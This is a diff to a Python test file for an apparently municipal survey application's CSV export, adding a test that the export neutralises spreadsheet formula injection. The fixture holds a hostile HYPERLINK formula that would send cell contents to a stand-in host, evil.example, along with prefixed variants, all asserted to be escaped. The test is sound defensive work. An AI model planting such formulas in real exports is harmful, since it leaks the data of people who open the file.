@@ -121,9 +121,9 @@ def test_csv_export_has_one_row_per_response_no_accounts_and_no_formulas(app, cl
     add(app, survey, 2, q4="=HYPERLINK(\"http://x\")")
     auth.login(make_user(role=Role.admin, municipality=asker))
     response = client.get(f"/asker/admin/undersokelser/{survey.id}/svar.csv?lang=en")
-    assert response.mimetype == "text/csv"
+    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
     assert "attachment" in response.headers["Content-Disposition"]
-    assert response.headers["Cache-Control"] == "private, no-store"
+    assert response.headers["Cache-Control"] == "no-store"
     text = response.get_data(as_text=True)
     assert text.startswith("\ufeff")
     rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
@@ -136,6 +136,29 @@ def test_csv_export_has_one_row_per_response_no_accounts_and_no_formulas(app, cl
     assert first[10] == "Buss > Sykkel > Vei"
     assert first[7].startswith("'=HYPERLINK")  # a spreadsheet will not run it
     assert "@" not in text  # no e-mail addresses, no accounts
+
+
+HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Se vedlegg")'
+
+
+def test_csv_export_cells_never_run_as_formulas(app, client, auth, make_user, asker):
+    survey = build_survey(asker, requires_login=False)
+    single, ranking = survey.questions[0], survey.questions[7]
+    single.options[1].label_nb = HOSTILE  # the option the valid answers choose
+    ranking.options[0].label_nb = "+" + HOSTILE  # ranked first
+    _db.session.commit()
+    add(app, survey, 1, q4=HOSTILE, q5="@evil.example")
+    auth.login(make_user(role=Role.admin, municipality=asker))
+    response = client.get(f"/asker/admin/undersokelser/{survey.id}/svar.csv")
+    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
+    assert response.headers["Cache-Control"] == "no-store"
+    text = response.get_data(as_text=True)
+    assert text.startswith("\ufeff") and text.endswith("\r\n")
+    header, row = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
+    assert row[3] == "'" + HOSTILE  # an option label
+    assert row[7] == "'" + HOSTILE and row[8] == "'@evil.example"  # free text
+    assert row[10].startswith("'+" + HOSTILE + " > ")  # a ranking
+    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in header + row)
 
 
 def test_closed_surveys_with_public_results_are_listed(client, db, asker):
